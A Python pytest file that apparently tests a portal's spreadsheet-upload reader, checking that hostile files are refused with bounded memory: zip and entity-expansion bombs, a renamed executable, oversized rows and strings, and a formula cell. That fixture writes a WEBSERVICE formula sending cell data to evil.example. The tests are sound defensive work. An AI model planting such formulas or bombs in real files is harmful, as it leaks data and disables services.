"""A corpus of hostile uploads, each read in a fresh process: refused (or, for the lying
<dimension>, read completely), with the memory the attempt took measured.

Times are printed, not asserted (benchmarks measure speed); memory is asserted, because
"bounded" is a property, not a speed.
"""

import json
import subprocess
import sys

import openpyxl
import pytest
from conftest import ROOT
from sheet_files import (
    EXECUTABLE,
    entity_bomb,
    lying_dimension,
    minimal_xlsx,
    shared_string_bomb,
    xlsx,
    zip_bomb,
)

MAX_GROWTH_MB = 120  # above the interpreter and the app's imports

READER = """
import json, resource, sys, time
from portal.sheets import SheetError, read_table
data = open(sys.argv[1], "rb").read()
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
start = time.perf_counter()
try:
    table = read_table(data, {"id": ["ユーザID"]}, ["id"])
    rows, error = sum(1 for _ in table.rows), None
except SheetError as exc:
    rows, error = None, str(exc)
print(json.dumps({"error": error, "rows": rows, "seconds": time.perf_counter() - start,
                  "growth_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 - base}))
"""


def formulas() -> bytes:
    import io

    book = openpyxl.Workbook()
    book.active.append(["ユーザID"])
    book.active.append(['=WEBSERVICE("http://evil.example/?"&A1)'])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_rows(count: int) -> bytes:
    return ("ユーザID\r\n" + "".join(f"ID-{n:06d}\r\n" for n in range(count))).encode()


CORPUS = {
    "zip bomb (400 MB of zeros)": (lambda: zip_bomb(400), "大きすぎる|圧縮"),
    "entity expansion": (lambda: entity_bomb(xlsx([["A-1"]])), "DTD"),
    "renamed executable": (lambda: EXECUTABLE, "実行ファイル"),
    "formula cells": (formulas, "数式"),
    "200,001 rows (xlsx)": (lambda: minimal_xlsx(200_001), "行数が多すぎます"),
    "200,001 rows (csv)": (lambda: csv_rows(200_001), "行数が多すぎます"),
    "one 100 KB shared string in 200,000 cells": (shared_string_bomb, "文字の量が多すぎます"),
    "a CSV field of 200,000 characters": (
        lambda: ("ユーザID\r\nA-1\r\n" + "x" * 200_000 + "\r\n").encode(), "3行目"),
}


def read_in_fresh_process(tmp_path, data: bytes) -> dict:
    path = tmp_path / "upload.bin"
    path.write_bytes(data)
    result = subprocess.run([sys.executable, "-c", READER, str(path)], cwd=ROOT,
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


@pytest.mark.parametrize("name", list(CORPUS))
def test_hostile_upload_is_refused_with_bounded_memory(tmp_path, name):
    make, message = CORPUS[name]
    outcome = read_in_fresh_process(tmp_path, make())
    print(f"{name}: {outcome['seconds']:.2f}s, +{outcome['growth_mb']:.0f} MB")
    assert outcome["error"] is not None, f"{name} was accepted"
    assert any(part in outcome["error"] for part in message.split("|")), outcome["error"]
    assert outcome["growth_mb"] < MAX_GROWTH_MB


def test_lying_dimension_is_read_completely_with_bounded_memory(tmp_path):
    data = lying_dimension(xlsx([[f"ID-{n}", "x"] for n in range(5000)],
                                header=["ユーザID", "氏名"]))
    outcome = read_in_fresh_process(tmp_path, data)
    assert outcome["error"] is None and outcome["rows"] == 5000
    assert outcome["growth_mb"] < MAX_GROWTH_MB
